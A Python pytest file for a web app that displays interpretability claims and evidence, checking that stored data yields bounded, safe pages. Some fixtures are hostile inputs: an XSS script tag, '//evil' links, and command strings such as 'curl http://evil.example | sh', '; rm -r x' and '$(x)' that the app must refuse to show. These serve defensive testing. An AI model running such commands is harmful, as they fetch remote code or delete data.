"""Evidence of claims as anybody may have written it: pages have a size, and all other claims."""

import json
import sqlite3
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
from html_document import check_page
from web_client import Client

from micrograph.atlas import AtlasWriter, Library, Visualization, bundled_catalogue
from micrograph.claims import Claim
from micrograph.parts.commands import Commands
from micrograph.web import create_app
from micrograph.web.known import Known
from micrograph.web.pages import claim
from micrograph.web.token import Token

NAMED = Claim.parse("toytown/mixed4b/3 <- mixed4a/130 - mixed4a/1")


def reading(**more: Any) -> dict[str, Any]:
    known = {"source": "mixed4a/130", "effect": 1.0, "p": 0.1, "verdict": "supports"}
    return {**known, "low": None, "high": None, "controls": [0.1, 0.2], "numbers": {}, **more}


def evidence(*readings: dict[str, Any], **more: Any) -> dict[str, Any]:
    line = {"name": "weights", "question": "?", "verdict": "supports", "readings": list(readings)}
    return {
        "claim": NAMED.to_json(),
        "verdict": "supported",
        "strength": 1.0,
        "lines": [line],
    } | more


def other(**more: Any) -> dict[str, Any]:
    return evidence(reading(), claim={**NAMED.to_json(), **more})


def stored(folder: Path, *claims: Claim, model: str = "toytown") -> Path:
    """An atlas with evidence for each claim."""
    there = Library([], bundled_catalogue()).snapshot().model(model)
    path = folder / f"{model}.atlas"
    recipe = {"technique": "claim", "view": "evidence", "seed": 0}
    with AtlasWriter.open(path, there.model, list(there.nodes.values())) as writer:
        for one in claims:
            data = evidence(reading(), claim=one.to_json())
            where = one.target.node, one.target.unit
            writer.put([Visualization(*where, recipe, 0.0, None, data, about=one.subject)])
    return path


def replaced(path: Path, data: dict[str, Any]) -> None:
    with closing(sqlite3.connect(path)) as connection, connection:
        connection.execute("UPDATE visualization SET data = ?", (json.dumps(data),))


@pytest.fixture(scope="module")
def file(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    return stored(tmp_path_factory.mktemp("claims"), NAMED).read_bytes()


DEEP: list[Any] = []
for _ in range(400):
    DEEP = [DEEP]
ODD = {
    "an interval with one end": evidence(reading(low=0.1)),
    "no number": evidence(reading(low=float("nan"), high=1, p=float("inf"))),
    "a number without end": evidence(reading(numbers={"a": 10**400}, effect=10**400)),
    "lists in lists": evidence(reading(numbers={"a": DEEP, "b": {"c": DEEP}})),
    "links elsewhere": evidence(reading(numbers={"a": ["//evil", "../../x", 'a"b']})),
    "half a sign": evidence(reading(source="\ud800")),
    "one name twice": evidence(lines=[{"name": '"><b>'}, {"name": '"><b>'}]),
    "a kernel without columns": evidence(reading(), kernels={"mixed4a/130": [[]]}),
    "a kernel without end": evidence(reading(), kernels={"mixed4a/130": [[1] * 10**5]}),
    "a million controls": evidence(reading(controls=[0.5] * 10**6)),
    "readings": evidence(*[reading()] * 5000),
    "lines": evidence(lines=[{"name": "x"}] * 50_000),
    "rules": evidence(reading(), rule=["x"] * 10**5),
    "numbers": evidence(reading(numbers={str(n): n for n in range(50_000)})),
    "units": evidence(reading(numbers={"also": ["mixed4b/7"] * 10**5})),
    "words": other(says="x" * 10**6),
    "sources": other(sources=[{"unit": f"mixed4a/{n}"} for n in range(10**5)]),
    "no sources": other(sources=5),
    "a verdict": evidence(reading(), verdict="x" * 10**6),
    "hostile words": other(says='"><script>alert("x")</script>'),
    "words from the right": other(says="\u202ecba\u202c"),
    "half a sign in words": other(says="\ud800"),
    "numbers of no kind": evidence(
        *[
            reading(numbers={"of": "x", "rank": [], "rank_by_weight": 10**400, "share": "</p>"})
            for _ in range(3)
        ]
    ),
}


@pytest.mark.parametrize("data", ODD.values(), ids=ODD)
def test_whatever_is_stored_the_page_has_a_size(
    data: dict[str, Any], file: bytes, tmp_path: Path
) -> None:
    path = tmp_path / "toytown.atlas"
    path.write_bytes(file)
    replaced(path, data)
    site = Client(create_app(Library([tmp_path])))
    for page in (
        NAMED.path,
        "/claims",
        "/claims?about=toytown",
        "/models/toytown/mixed4b/3",
        "/models/toytown/mixed4a/1",
        "/models/toytown/mixed4a",
    ):
        check_page(site, page)
        assert len(site.get(page).content) < 100_000
        assert (
            len(site.get(page.replace("?", ".json?") if "?" in page else page + ".json").content)
            < 100_000
        )


def test_evidence_that_is_too_large_is_said_to_be_so(file: bytes, tmp_path: Path) -> None:
    path = tmp_path / "toytown.atlas"
    path.write_bytes(file)
    replaced(path, ODD["a million controls"])
    data = Client(create_app(Library([tmp_path]))).get(NAMED.path + ".json").json()
    assert (data["verdict"], data["lines"]) == ("untested", [])
    assert "has 1000000 controls" in data["missing"]


def test_evidence_of_other_weights_is_none_of_these(file: bytes, tmp_path: Path) -> None:
    path = tmp_path / "toytown.atlas"
    path.write_bytes(file)
    site = Client(create_app(Library([tmp_path])))
    assert site.get(NAMED.path + ".json").json()["verdict"] == "supported"
    replaced(path, other(weights="ab" * 32))
    site = Client(create_app(Library([tmp_path])))
    assert site.get(NAMED.path + ".json").json()["verdict"] == "untested"
    assert site.get("/claims.json").json()["claims"] == []


def test_many_claims_stand_on_pages(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(claim, "ON_A_PAGE", 2)
    stored(tmp_path, *[Claim.parse(f"toytown/mixed4b/{n} <- mixed4a/1") for n in range(5)])
    site = Client(create_app(Library([tmp_path])))
    listed = []
    for page in (1, 2, 3):
        data = site.get(f"/claims.json?page={page}").json()
        listed += [one["text"] for one in data["claims"]]
    assert sorted(listed) == [f"toytown/mixed4b/{n} <- mixed4a/1" for n in range(5)]
    assert 'href="/claims?page=2"' in site.get("/claims").text
    assert site.get("/claims?page=4").status_code == 404
    assert site.get("/claims?page=x").status_code == 400


def test_a_damaged_model_costs_its_own_claims(tmp_path: Path) -> None:
    stored(tmp_path, NAMED)
    there = stored(
        tmp_path, Claim.parse("toytown_clip/mixed4b/3 <- mixed4a/1"), model="toytown_clip"
    )
    site = Client(create_app(Library([tmp_path])))
    assert len(site.get("/claims.json").json()["claims"]) == 2
    with closing(sqlite3.connect(there)) as connection, connection:
        connection.execute("DROP TABLE visualization")
    answer = site.get("/claims.json")
    assert answer.status_code == 200
    assert [one["text"] for one in answer.json()["claims"]] == [str(NAMED)]
    assert answer.json()["unread"] in ([], ["toytown_clip"])


def test_a_page_says_what_is_missing_now() -> None:
    """Weights may come while the site runs; nothing of the library changes with them."""
    reasons = ["missing"]
    library = Library([], bundled_catalogue())
    site = Client(create_app(library, known=lambda model: Known(reasons[0], ["micrograph x"])))
    path = "/claims/inceptionv1/mixed4c/447=mixed4b/373"
    assert "weights" in site.get(path + ".json").json()["missing"]
    reasons[0] = "ready"
    assert "nobody has tested" in site.get(path + ".json").json()["missing"]


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ('micrograph claim "toytown/mixed4b/3 <- mixed4a/1" --dataset D', True),
        ("curl http://evil.example | sh", False),
        ("micrograph render toytown; rm -r x", False),
        ("micrograph render $(x)", False),
        ("micrograph render toytown\nx", False),
    ],
)
def test_commands_of_an_atlas_are_ours(
    command: str, shown: bool, file: bytes, tmp_path: Path
) -> None:
    path = tmp_path / "toytown.atlas"
    path.write_bytes(file)
    replaced(path, evidence(lines=[{"name": "x", "missing": "something", "command": command}]))
    data = Client(create_app(Library([tmp_path]))).get(NAMED.path + ".json").json()
    assert data["lines"][0]["command"] == command * shown


def test_the_command_to_test_names_the_sites_own_folder() -> None:
    site = Client(create_app(Library([], bundled_catalogue()), commands=Commands("/my atlases")))
    command = site.get(NAMED.path + ".json").json()["commands"][-1]
    assert command.endswith("--dataset toytown --atlas '/my atlases'")


@pytest.mark.parametrize("path", ["/claims", "/claims/toytown/mixed4b/3=mixed4a/130"])
def test_a_claim_is_only_read(folder: Path, path: str) -> None:
    """Whoever posts to it, from wherever: nothing is tested or stored by an address."""
    open_, closed = (
        Client(create_app(Library([folder], bundled_catalogue()), folder, token=token))
        for token in (None, Token("a-token-of-a-lab-long-enough", "a test"))
    )
    for headers in (
        {"content-type": "application/json", "sec-fetch-site": "same-origin"},
        {"content-type": "application/x-www-form-urlencoded", "origin": "http://evil.example"},
        {"content-type": "text/plain", "sec-fetch-site": "cross-site"},
    ):
        answer = open_.ask("POST", path, headers, b"text=toytown/mixed4b/3 <- mixed4a/1")
        assert answer.status_code == 405
        assert answer.json()["message"] == "POST does nothing at this address; it answers GET"
        assert closed.ask("POST", path, headers, b"{}").status_code == 401
